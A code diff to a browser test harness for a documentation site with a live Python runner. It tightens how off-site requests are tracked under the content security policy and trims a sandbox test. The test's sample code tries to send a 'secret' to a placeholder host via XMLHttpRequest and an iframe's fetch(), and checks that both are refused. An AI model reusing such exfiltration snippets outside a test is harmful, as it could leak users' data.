@@ -58,24 +58,36 @@ class Site:
     """The built site in one browser, whose profile stays: what a page keeps is there when it is opened again."""
 
     def __init__(self, context: Any, base: str) -> None:
-        self.context, self.base, self.requests = context, base, dict[str, int]()
+        self.context, self.base, self.requests, self.elsewhere = context, base, dict[str, int](), list[str]()
         self.page: Any = None
 
     def open(self, name: str) -> Any:
-        if self.page is not None:
-            self.page.close()
+        self.close()
         self.page = self.context.new_page()
         self.page.set_default_timeout(60_000 * MINUTES)
         self.page.on("dialog", lambda dialog: dialog.accept())
         self.page.on("request", self._seen)
+        self.page.on("requestfailed", self._refused)
         self.page.on("pageerror", lambda error: sys.exit(f"{name}: {error}"))
         self.page.goto(f"{self.base}{name}")
         self.page.locator("html.live-ready").wait_for(state="attached")
         return self.page
 
+    def close(self) -> None:
+        """Close the page. It may have asked for nothing outside of the site that its content policy did not refuse."""
+        if self.page is not None:
+            check(not self.elsewhere, f"the page asked for {', '.join(self.elsewhere)}")
+            self.page.close()
+            self.page = None
+
+    def _refused(self, request: Any) -> None:
+        if request.failure == "csp" and request.url in self.elsewhere:
+            self.elsewhere.remove(request.url)
+
     def _seen(self, request: Any) -> None:
         if not request.url.startswith((self.base, "blob:", "data:")):
-            sys.exit(f"the page asked for {request.url}")
+            self.elsewhere.append(request.url)
+            return
         path = ROOT / "out" / "docs" / unquote(request.url.removeprefix(self.base)).partition("#")[0]
         self.requests[path.name] = path.stat().st_size if path.is_file() else 0
 
@@ -258,14 +270,13 @@ def link(site: Site) -> None:
 
 LEAK = """
 import js
-for send in (lambda: js.XMLHttpRequest.new(), lambda: js.WebSocket.new("wss://example.com")):
-    try:
-        request = send()
-        request.open("GET", "https://example.com/?secret", False)
-        request.send()
-        print("it was sent")
-    except BaseException as error:
-        print("refused:", type(error).__name__)
+try:
+    request = js.XMLHttpRequest.new()
+    request.open("GET", "https://example.com/?secret", False)
+    request.send()
+    print("it was sent")
+except BaseException as error:
+    print("refused:", type(error).__name__)
 open("page.html", "w").write("<body>before<script>try { localStorage.x = 1; document.body.append(' kept') }"
     " catch { document.body.append(' refused') } fetch('https://example.com/?secret').then("
     "() => document.body.append(' sent'), () => document.body.append(' refused'))</script>")
@@ -278,10 +289,10 @@ def sealed(site: Site) -> None:
     site.put(LEAK)
     site.press("Run")
     text = site.page.locator(".live-results .live-text").first.inner_text()
-    check(text.split() == ["refused:", "JsException"] * 2, text)
+    check(text.split() == ["refused:", "JsException"], text)
     body = site.page.locator(".live-results iframe").content_frame.locator("body")
     body.get_by_text("before refused refused").wait_for()
-    print("  XMLHttpRequest, WebSocket, a frame's fetch and its storage: refused")
+    print("  XMLHttpRequest, a frame's fetch and its storage: refused")
 
 
 def classroom(site: Site) -> None:
@@ -369,6 +380,7 @@ def main() -> None:
         for name in options.parts or PARTS:
             print(f"{name}: {html.unescape(PARTS[name].__doc__ or '')}", flush=True)
             PARTS[name](site)
+            site.close()
         context.close()
 
 
